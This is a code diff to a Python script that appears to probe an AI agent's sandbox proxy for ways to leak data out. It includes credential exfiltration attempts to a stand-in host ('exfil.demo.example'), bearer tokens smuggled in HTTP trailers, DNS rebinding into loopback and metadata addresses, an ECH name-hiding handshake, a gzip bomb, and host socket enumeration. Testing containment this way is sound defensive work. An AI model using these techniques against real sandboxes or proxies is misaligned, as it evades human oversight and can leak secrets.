@@ -6,6 +6,7 @@ word), `unreachable`, `no answer`, `tls alert`, or the beginning of what came ba
 
 import base64
 import errno
+import gzip
 import json
 import os
 import re
@@ -19,6 +20,8 @@ import time
 from pathlib import Path
 
 ALLOWED, GIT, DENIED = "api.anthropic.com", "git.demo.example", "exfil.demo.example"
+RECORD, JUDGED = "record.demo.example", "judged.demo.example"
+CUT = "cut"
 GET = f"GET / HTTP/1.1\r\nHost: {ALLOWED}\r\n"
 RESULTS = {}
 AGENTS_OWN = "/tmp/cc-socks"  # made inside, by the agent's program
@@ -28,6 +31,7 @@ ERRORS = {
     errno.ENETUNREACH: "unreachable",
     errno.EHOSTUNREACH: "unreachable",
     errno.ECONNREFUSED: "unreachable",
+    errno.ENOENT: "no such file",
 }
 
 
@@ -120,7 +124,9 @@ def curl(*arguments):
     if done.stdout:
         return verdict(done.stdout[done.stdout.rfind(b"HTTP/") :])
     words = done.stderr.decode()
-    return "tls alert" if "unrecognized name" in words else words[:80]
+    if "unrecognized name" in words:
+        return "tls alert"
+    return CUT if "reset by peer" in words or "Failed to connect" in words else words[:80]
 
 
 # -- HTTP/2, just enough of it ---------------------------------------------------------------------------
@@ -170,6 +176,14 @@ def pseudo(method="GET", authority=ALLOWED, path="/", scheme="https"):
     return ((":method", method), (":scheme", scheme), (":authority", authority), (":path", path))
 
 
+def h2_trailers(*trailers):
+    head = b"".join(field(*pair) for pair in pseudo("POST", RECORD, "/trailers/http2"))
+    tail = b"".join(field(*pair) for pair in trailers)
+    with open_tls(RECORD, alpn=("h2",)) as client:
+        client.sendall(PREFACE + frame(1, 4, 1, head) + frame(0, 0, 1, b"body") + frame(1, 5, 1, tail))
+        return h2_verdict(read(client))
+
+
 def continuation_flood():
     """Whether the connection's end is seen as a frame or not depends on how much we had written by then."""
     frames = frame(1, 1, 3, b"") + frame(9, 0, 3, field("x-a", "b" * 120)) * 2000
@@ -215,30 +229,57 @@ def thousand_names():
     return "throttled" if answered < 1000 else "answered by us, forwarded nowhere"
 
 
+def rebinding(name):
+    """Two requests, with an answer of DNS between them; what a public address says of it (502) is its own affair."""
+    first = http(name)
+    time.sleep(1.2)  # as long as an answer that may not be kept is kept all the same
+    return ", then ".join(
+        re.sub("^502 upstream-(unreachable|tls)", "502", verdict) for verdict in (first, http(name))
+    )
+
+
+# -- TLS, just enough of it --------------------------------------------------------------------------------
+
+
+def extension(kind, data):
+    return kind.to_bytes(2, "big") + len(data).to_bytes(2, "big") + data
+
+
+def sized(data, size=2):
+    return len(data).to_bytes(size, "big") + data
+
+
+def client_hello_with_ech(outer):
+    """TLS 1.3 with an encrypted_client_hello: whether it is real or grease, only the holder of a key could tell."""
+    hpke = b"\x00" + b"\x00\x01\x00\x01" + b"\x07" + sized(os.urandom(32)) + sized(os.urandom(144))
+    extensions = b"".join([
+        extension(0, sized(b"\x00" + sized(outer.encode()))),
+        extension(10, sized(b"\x00\x1d")),
+        extension(13, sized(bytes.fromhex("0403080404010503080505010806"))),
+        extension(43, sized(b"\x03\x04", 1)),
+        extension(51, sized(b"\x00\x1d" + sized(os.urandom(32)))),
+        extension(16, sized(sized(b"http/1.1", 1))),
+        extension(0xFE0D, hpke),
+    ])  # fmt: skip
+    body = (
+        b"\x03\x03"
+        + os.urandom(32)
+        + sized(os.urandom(32), 1)
+        + sized(b"\x13\x01\x13\x02\x13\x03")
+        + b"\x01\x00"
+    )
+    return b"\x16\x03\x01" + sized(b"\x01" + sized(body + sized(extensions), 3))
+
+
+def ech(outer):
+    """What is answered: a ServerHello is one for the outer name, because nobody here could read the inner one."""
+    with socket.create_connection((ALLOWED, 443), timeout=8) as client:
+        client.sendall(client_hello_with_ech(outer))
+        answer = client.recv(4096)
+    return {b"\x16": "as the outer name", b"\x15": "tls alert", b"": CUT}.get(answer[:1], repr(answer[:8]))
+
+
 # -- floods ------------------------------------------------------------------------------------------------
-
-
-def many_connections():
-    held, address = [], socket.gethostbyname(ALLOWED)
-    try:
-        for _ in range(600):
-            client = socket.socket()
-            client.settimeout(5)
-            client.connect((address, 80))
-            held.append(client)
-        refused = 0
-        for client in held:
-            client.settimeout(0.01)
-            try:
-                refused += client.recv(1) == b""
-            except ConnectionResetError:
-                refused += 1
-            except TimeoutError:
-                pass
-        return "capped" if 600 - refused <= 256 else f"{600 - refused} stayed open"
-    finally:
-        for client in held:
-            client.close()
 
 
 def huge_body():
@@ -276,6 +317,28 @@ def slow_head():
 
 
 # -- files -------------------------------------------------------------------------------------------------
+
+
+def unix(path):
+    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
+        client.connect(path)
+        return "connected"
+
+
+def listeners():
+    """Ports that somebody listens on in this namespace."""
+    ports = set()
+    for table in ("tcp", "tcp6"):
+        for line in Path(f"/proc/net/{table}").read_text().splitlines()[1:]:
+            _, local, _, state, *_ = line.split()
+            if state == "0A":
+                ports.add(int(local.rpartition(":")[2], 16))
+    return ", ".join(map(str, sorted(ports)))
+
+
+def abstract_sockets():
+    names = (line.split()[-1] for line in Path("/proc/net/unix").read_text().splitlines()[1:])
+    return ", ".join(sorted({name for name in names if name.startswith("@")})) or "none"
 
 
 def sockets_in_files():
@@ -335,6 +398,8 @@ def try_names():
     attempt("dns_thousand_names", thousand_names)
     for kind in ("loopback", "private", "link-local", "metadata", "cgnat", "mapped", "ula", "mixed"):
         attempt(f"rebind_{kind}", http, f"{kind}.rebind.example")
+    for kind in ("into-loopback", "into-metadata", "out-of-loopback"):
+        attempt(f"rebind_{kind}", rebinding, f"{kind}.rebind.example")
 
 
 def try_no_http():
@@ -344,6 +409,8 @@ def try_no_http():
     attempt("raw_bytes_on_80", plain, ALLOWED, b"SSH-2.0-x\r\n\r\n")
     attempt("tls_without_http", tls, ALLOWED, b"\x00\x01\x02\x03 not http\r\n\r\n")
     attempt("tls_on_80", plain, ALLOWED, b"\x16\x03\x01\x00\x05\x01\x00\x00\x01\x00")
+    attempt("ech_outer_allowed", ech, ALLOWED)
+    attempt("ech_outer_denied", ech, DENIED)
     attempt("foreign_alpn", tls, ALLOWED, b"", alpn=("ssh",))
 
 
@@ -486,6 +553,21 @@ def try_credentials():
     attempt("credential_in_a_cookie", http, GIT, "/demo.git/info/refs", f"Cookie: session={key}")
     attempt("credential_over_plain_http", plain, ALLOWED, f"{GET}X-Api-Key: {key}\r\n\r\n".encode())
     attempt("credential_in_a_denied_request", http, DENIED, "/", f"Authorization: Bearer {token or key}")
+    attempt(
+        "trailers_http1",
+        http,
+        RECORD,
+        "/trailers/http1",
+        "Transfer-Encoding: chunked",
+        "Trailer: Authorization, X-Foreign",
+        method="POST",
+        body=f"4\r\nbody\r\n0\r\nAuthorization: Bearer {key}\r\nX-Foreign: agents-own\r\n\r\n".encode(),
+    )
+    attempt("trailers_http2", h2_trailers, ("authorization", f"Bearer {key}"), ("x-foreign", "agents-own"))
+
+
+QUERY = b'{"query": "{viewer{login}}", "variables": {"a": "' + b"x" * 8000 + b'"}}'
+BOMB = gzip.compress(b"\0" * 64 * 1024 * 1024)
 
 
 def try_bodies():
@@ -507,16 +589,31 @@ def try_bodies():
         "/graphql",
         "Content-Type: application/json",
         "Content-Encoding: gzip",
-        "Content-Length: 2",
+        f"Content-Length: {len(BOMB)}",
         method="POST",
-        body=b"\x1f\x8b",
+        body=BOMB,
+    )
+    attempt(
+        "chunked_above_the_limit",
+        http,
+        JUDGED,
+        "/graphql",
+        "Content-Type: application/json",
+        "Transfer-Encoding: chunked",
+        method="POST",
+        body=b"2000\r\n" + QUERY.ljust(8192) + b"\r\n0\r\n\r\n",
     )
 
 
 def try_the_host(services):
     """What listens beside the sandbox."""
-    for name, port in services.items():
-        attempt(f"service_{name}", tcp, "127.0.0.1", port, b"hello")
+    for name, where in services.items():
+        if isinstance(where, int):
+            attempt(f"service_{name}", tcp, "127.0.0.1", where, b"hello")
+        else:
+            attempt(f"socket_{name}", unix, where)
+    attempt("listeners", listeners)
+    attempt("abstract_sockets", abstract_sockets)
     attempt("our_own_listener", tcp, "127.0.0.1", 15001, GET.encode() + b"\r\n")
     attempt("sockets_in_files", sockets_in_files)
 
@@ -537,7 +634,6 @@ def main():
     try_bodies()
     try_the_host(services)
     attempt("ten_gigabytes", huge_body)
-    attempt("many_connections", many_connections)
     slow.join()
     attempt("allowed", http, GIT, "/demo.git/info/refs?service=git-upload-pack")
     print(json.dumps(RESULTS, indent=1))
